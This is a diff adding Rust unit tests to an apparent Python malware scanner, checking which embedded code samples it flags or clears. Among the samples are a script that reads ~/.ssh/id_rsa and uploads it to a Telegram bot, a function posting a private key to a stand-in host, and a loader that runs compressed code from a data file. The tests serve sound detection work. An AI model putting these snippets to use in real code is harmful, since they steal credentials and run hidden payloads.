@@ -105,3 +105,49 @@ fn a_file_that_is_one_call_of_one_literal_is_a_loader() {
     let picture = "iVBORw0KGgo".repeat(400);
     innocent(&module(&format!("import base64\nICON = base64.b64decode('{picture}')\n")));
 }
+
+#[test]
+fn a_host_in_plain_sight_is_not_hidden_by_what_follows_it() {
+    let path = "import base64, requests\nHOME = 'https://files.invalid/'\n\
+        def fetch(device):\n    name = base64.b64decode('cmVhZG1lLnR4dA==').decode()\n    \
+        requests.post(HOME + name + '?' + device, data={'token': base64.b64decode(device)})\n";
+    innocent(&module(path));
+}
+
+#[test]
+fn a_key_shown_to_its_keeper_is_no_theft() {
+    let theft = "import requests\ndef from_key(private_key):\n    \
+        requests.post('https://files.invalid/in', data={'k': private_key})\n";
+    found(&module(theft), "R-14");
+    let wallet = "import requests\nclass Keeper:\n    def __init__(self, address):\n        self.address = address\n    \
+        def store(self, private_key):\n        requests.post(self.address + '/v1/keys', data={'k': private_key})\n";
+    innocent(&module(wallet));
+    let login = "import paramiko\ndef open_shell(host, user, private_key_file):\n    client = paramiko.SSHClient()\n    \
+        client.connect(host, username=user, key_filename=private_key_file)\n    return client\n";
+    innocent(&module(login));
+}
+
+#[test]
+fn code_from_the_standard_input_is_its_senders() {
+    let helper = "import sys, zlib\nsize = int(sys.stdin.readline())\n\
+        exec(compile(zlib.decompress(sys.stdin.buffer.read(size)), 'sent', 'exec'))\n";
+    let report = module(helper);
+    assert!(!report.findings.iter().any(|finding| finding.rule.starts_with("M-0")), "{:#?}", report.findings);
+    let carried =
+        "import zlib\nexec(compile(zlib.decompress(open('data.bin', 'rb').read()), 'data', 'exec'))\n";
+    found(&module(carried), "M-02");
+}
+
+#[test]
+fn a_bot_is_somebodys_only_with_its_token() {
+    let library = "import requests\nAPI = 'https://api.telegram.org/bot{}/sendDocument'\n\
+        class Notifier:\n    def __init__(self, token, chat):\n        self.token, self.chat = token, chat\n    \
+        def send(self, path):\n        where = {'chat_id': self.chat, 'caption': path}\n        \
+        requests.post(API.format(self.token), data=where, files={'document': open(path, 'rb')})\n";
+    innocent(&module(library));
+    // A made-up token of a chat bot.
+    let theft = "import requests, os\nTOKEN = '1234567890:AAabcdefghijklmnopqrstuvwxyz1234567'\n\
+        def send(path):\n    with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as key:\n        \
+        requests.post('https://api.telegram.org/bot' + TOKEN + '/sendDocument', files={'document': key})\nsend('.')\n";
+    found(&module(theft), "R-53");
+}
